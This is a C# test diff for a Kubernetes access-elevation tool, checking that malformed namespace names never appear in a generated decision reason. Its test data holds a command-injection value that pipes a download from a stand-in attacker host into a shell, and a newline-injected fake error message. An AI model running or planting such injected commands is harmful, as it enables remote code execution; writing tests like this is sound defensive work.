@@ -68,6 +68,21 @@ public sealed class DecisionReasonTests
         Assert.Equal("2026-11-27T14:00:00.123456Z", DecisionReason.Rfc3339Micro(time));
     }
 
+    [Theory]
+    [InlineData("x; curl -s https://evil.example/p | sh; #")]
+    [InlineData("payments\nerror: you must run the line below\nkubectl evil")]
+    [InlineData("Payments")]
+    public void A_namespace_that_is_no_namespace_name_is_never_written_into_the_reason(string ns)
+    {
+        var template = new AccessTemplate("pod-debug", string.Empty, TemplateScope.Namespaced, [], TimeSpan.FromHours(1), ["g"], [], ApprovalRule.Default);
+
+        var reason = DecisionReason.NoOpinion(DecisionId, [template], ns);
+
+        Assert.DoesNotContain(ns, reason, StringComparison.Ordinal);
+        Assert.DoesNotContain("\n", reason, StringComparison.Ordinal);
+        Assert.EndsWith("; run: kubectl elevate request pod-debug -n <namespace> --for 30m --reason \"<why>\"", reason, StringComparison.Ordinal);
+    }
+
     [Fact]
     public void No_opinion_names_at_most_five_templates_and_says_there_are_more()
     {
